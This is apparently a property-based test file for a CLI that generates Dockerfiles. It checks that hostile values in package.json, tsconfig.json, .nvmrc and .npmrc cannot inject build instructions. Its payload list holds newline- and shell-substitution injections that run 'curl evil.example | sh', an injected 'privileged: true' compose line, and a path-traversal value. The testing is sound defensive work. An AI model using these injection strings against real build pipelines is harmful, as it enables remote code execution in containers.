// Issue 13 item 1: a project file is as hostile as a flag. Whatever package.json, tsconfig.json,
// .nvmrc, .node-version and .npmrc say, a run either writes files in which no hostile string forms
// an instruction (no Dockerfile or compose line carries the payload), or stops with exit 2 and one
// line, writing nothing. The CLI runs in-process on a real temp directory.
import { mkdtemp, readdir, readFile, rm, writeFile, mkdir } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { copyFixture, runInProcess } from '../support/cli-harness.js';

const MARK = 'evil.example';
/** What every payload tries to run: no generated Dockerfile or compose line may carry it. */
const INJECTED = `curl ${MARK}`;
const payload = fc.constantFrom(
  `dist\nRUN curl ${MARK} | sh\nCOPY x `,
  `x\r\nRUN curl ${MARK}`,
  `server.js\n    privileged: true # curl ${MARK}`,
  `$(curl ${MARK})`,
  `\`curl ${MARK}\``,
  `a" && curl ${MARK} "`,
  `node server.js\nRUN curl ${MARK}`,
  `>=20\nRUN curl ${MARK}`,
  `pnpm@9.15.9\nRUN curl ${MARK}`,
  `legacy-peer-deps=true\nRUN curl ${MARK}`,
);
const hostile = fc.oneof(payload, fc.string().map((s) => `${s}\nRUN curl ${MARK}`), fc.constantFrom('dist', 'server.js', 'node server.js'));

const project = fc.record({
  name: hostile,
  main: hostile,
  start: hostile.map((h) => `node ${h}`),
  build: fc.option(hostile, { nil: undefined }),
  engines: fc.option(hostile, { nil: undefined }),
  packageManager: fc.option(hostile, { nil: undefined }),
  outDir: fc.option(hostile, { nil: undefined }),
  rootDir: fc.option(hostile, { nil: undefined }),
  nvmrc: fc.option(hostile, { nil: undefined }),
  npmrc: fc.option(hostile.map((h) => `registry=${h}\n${h}=true\nlegacy-peer-deps=${h}\n`), { nil: undefined }),
});

type Project = typeof project extends fc.Arbitrary<infer T> ? T : never;

async function writeProject(dir: string, p: Project): Promise<void> {
  const pkg: Record<string, unknown> = { name: p.name, main: p.main, scripts: { start: p.start, ...(p.build ? { build: p.build } : {}) }, dependencies: { express: '^5.0.0' } };
  if (p.engines) pkg.engines = { node: p.engines };
  if (p.packageManager) pkg.packageManager = p.packageManager;
  await writeFile(path.join(dir, 'package.json'), JSON.stringify(pkg));
  await writeFile(path.join(dir, 'package-lock.json'), '{"lockfileVersion":3}');
  await writeFile(path.join(dir, 'server.js'), "require('express')().listen(3000)\n");
  await mkdir(path.join(dir, 'dist'), { recursive: true });
  await writeFile(path.join(dir, 'dist', 'server.js'), '\n');
  if (p.outDir !== undefined || p.rootDir !== undefined) {
    await writeFile(path.join(dir, 'tsconfig.json'), JSON.stringify({ compilerOptions: { outDir: p.outDir, rootDir: p.rootDir } }));
  }
  if (p.nvmrc !== undefined) await writeFile(path.join(dir, '.nvmrc'), p.nvmrc);
  if (p.npmrc !== undefined) await writeFile(path.join(dir, '.npmrc'), p.npmrc);
}

describe('hostile project files', () => {
  test("the issue's tsconfig outDir payload stops the run naming the file and field, with or without --entry", async () => {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'csnd-hostile-'));
    try {
      await writeProject(dir, { name: 'app', main: 'server.js', start: 'node dist/server.js', build: 'tsc', engines: undefined, packageManager: undefined, outDir: `dist\nRUN curl ${MARK} | sh\nCOPY x `, rootDir: undefined, nvmrc: undefined, npmrc: undefined });
      for (const extra of [[], ['--entry', 'dist/server.js']]) {
        const result = await runInProcess(['--yes', ...extra], { cwd: dir });
        expect(result.code).toBe(2);
        expect(result.stderr.trim().split('\n')).toHaveLength(1);
        expect(result.stderr).toContain('tsconfig.json compilerOptions.outDir');
        expect(await readdir(dir)).not.toContain('Dockerfile');
      }
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  test('any mix of hostile values: exit 0 with no payload in a Dockerfile or compose line, or exit 2 with one line and nothing written', async () => {
    await fc.assert(
      fc.asyncProperty(project, async (p) => {
        const dir = await mkdtemp(path.join(os.tmpdir(), 'csnd-hostile-'));
        try {
          await writeProject(dir, p);
          const before = new Set(await readdir(dir));
          const result = await runInProcess(['--yes', '--json'], { cwd: dir });
          expect([0, 2], result.stderr).toContain(result.code);
          if (result.code === 2) {
            expect(result.stderr.trim().split('\n')).toHaveLength(1);
            expect((await readdir(dir)).filter((f) => !before.has(f))).toEqual([]);
            return;
          }
          for (const file of ['Dockerfile', 'compose.yaml']) {
            const text = await readFile(path.join(dir, file), 'utf8');
            for (const line of text.split('\n')) expect(line, `${file}: ${line}`).not.toContain(INJECTED);
          }
        } finally {
          await rm(dir, { recursive: true, force: true });
        }
      }),
      { numRuns: 120 },
    );
  }, 120_000);
});

describe("nest-cli.json's tsConfigPath (read once, by detect/nest-cli.ts)", () => {
  test('a path leaving the project exits 2 with one line naming the field, nothing written', async () => {
    const { dir, cleanup } = await copyFixture('nest');
    try {
      await writeFile(path.join(dir, 'nest-cli.json'), JSON.stringify({ sourceRoot: 'src', compilerOptions: { tsConfigPath: '../../etc/tsconfig.json' } }));
      const result = await runInProcess(['--yes'], { cwd: dir });
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr.trim().split('\n')).toHaveLength(1);
      expect(result.stderr).toContain('nest-cli.json compilerOptions.tsConfigPath must stay inside the project directory');
      expect(await readdir(dir)).not.toContain('Dockerfile');
    } finally {
      await cleanup();
    }
  });
});
